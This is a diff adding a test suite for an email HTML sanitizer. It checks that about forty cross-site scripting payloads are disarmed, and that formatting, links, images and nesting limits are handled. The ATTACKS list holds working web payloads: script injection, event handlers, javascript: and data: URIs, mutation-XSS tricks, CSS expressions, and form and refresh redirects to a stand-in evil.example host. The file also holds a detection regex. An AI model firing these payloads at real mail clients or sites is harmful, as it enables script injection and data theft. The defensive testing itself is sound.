@@ -1,0 +1,133 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { htmlToText, MAX_BODY_LENGTH, sanitizeHtml } from './sanitize.ts'
+
+/** Each has run script, loaded something or left the page in some mail reader. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img """><script>alert(1)</script>">',
+  '<svg onload=alert(1)><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="//evil.example/x">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
+  '<p style="background:url(https://evil.example/x)">x</p>',
+  '<p style="background-color:expression(alert(1))">x</p>',
+  '<p style="color:red;position:fixed;top:0;left:0;z-index:9999">x</p>',
+  '<p style="width:\\65xpression(alert(1))">x</p>',
+  '<p style="margin:0 -5000px">x</p>',
+  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
+  '<img srcset="https://evil.example/x 1x" src="//evil.example/x">',
+  '<video src="https://evil.example/x" onloadstart=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<p id="admin" name="config" class="overlay">x</p>',
+  '<img data-remote-src="javascript:alert(1)" src="cid:a">',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<div/onmouseover="alert(1)">x',
+  '<p title="&quot;><script>alert(1)</script>">x</p>',
+]
+
+/** What no safe HTML may hold, looked for inside tags only: as text between tags it is harmless. */
+const FORBIDDEN =
+  /^<\/?(?:script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|video|audio|textarea|xmp|noscript)\b|\son\w+\s*=|javascript:|vbscript:|data:|url\(|expression|position|z-index|\s(?:id|name|class|srcset|background)=|\ssrc="(?!cid:)|(?:href|src)="\/\/|-5000px/i
+
+describe('sanitizeHtml', () => {
+  for (const attack of ATTACKS) {
+    it(`disarms ${attack.slice(0, 70)}`, () => {
+      const safe = sanitizeHtml(`before ${attack} after`)
+      for (const tag of safe.match(/<[^>]*>/g) ?? []) {
+        const values = tag.replaceAll(/(title|alt)="[^"]*"/g, '')
+        assert.doesNotMatch(values, FORBIDDEN, safe)
+      }
+      assert.match(safe, /before/)
+    })
+  }
+
+  it('keeps what a mail looks like', () => {
+    const html =
+      '<p style="color:rgb(1, 2, 3);font-size:12px">Dear <b>Rita</b>,</p><table><tr><td colspan="2">1</td></tr></table>'
+    assert.equal(sanitizeHtml(html), html)
+  })
+
+  it('opens links elsewhere and gives no referrer', () => {
+    assert.equal(
+      sanitizeHtml('<a href="https://acme.example/?a=1&amp;b=2" target="_top">x</a>'),
+      '<a href="https://acme.example/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>',
+    )
+  })
+
+  it('remembers a remote image without loading it', () => {
+    assert.equal(
+      sanitizeHtml('<img src="http://acme.example/pixel.gif" width="1">'),
+      '<img width="1" data-remote-src="http://acme.example/pixel.gif" />',
+    )
+  })
+
+  it('keeps images that came with the mail', () => {
+    assert.equal(sanitizeHtml('<img src="CID:logo@acme">'), '<img src="cid:logo@acme" />')
+  })
+
+  it('hands images written into the HTML to the caller', () => {
+    const seen: string[] = []
+    const html = sanitizeHtml('<img alt="x" src="data:image/PNG;base64,aGVsbG8=">', {
+      onDataImage: ({ mime_type, data }) => `cid:${seen.push(`${mime_type} ${data.toString()}`)}`,
+    })
+    assert.deepEqual(seen, ['image/png hello'])
+    assert.equal(html, '<img alt="x" src="cid:1" />')
+  })
+
+  it('is its own fixed point', () => {
+    for (const attack of ATTACKS) {
+      const once = sanitizeHtml(attack)
+      if (!once.includes('data-remote-src')) assert.equal(sanitizeHtml(once), once)
+    }
+  })
+
+  for (const bomb of ['<b>', '<div><i>', '<table><tr><td>', '<b></i>', '<svg><style>', '<blockquote>', '<x>']) {
+    it(`gives up nesting and keeps the text: ${bomb}`, () => {
+      const safe = sanitizeHtml(`${bomb.repeat(MAX_BODY_LENGTH / 20)}needle`)
+      assert.ok(safe.length < MAX_BODY_LENGTH)
+      assert.equal(safe.slice(0, 5) + safe.slice(-12), '<pre>needle</pre>')
+    })
+  }
+
+  it('never returns more than a body may hold', () => {
+    for (const piece of ['&', '<', '"', '<a href="http://x">', '<p>', '&lt;']) {
+      assert.ok(sanitizeHtml(piece.repeat(MAX_BODY_LENGTH)).length <= MAX_BODY_LENGTH, piece)
+    }
+  })
+})
+
+describe('htmlToText', () => {
+  it('reads as the page does', () => {
+    assert.equal(
+      htmlToText('<style>x</style><h1>Hello</h1><p>Fish &amp; chips&nbsp;&lt;now&gt;</p><ul><li>1<li>2</ul>'),
+      'Hello\n\nFish & chips <now>\n\n1\n2',
+    )
+  })
+
+  it('survives a bomb', () => {
+    assert.equal(htmlToText(`${'<div>'.repeat(100_000)}needle`), 'needle')
+  })
+})
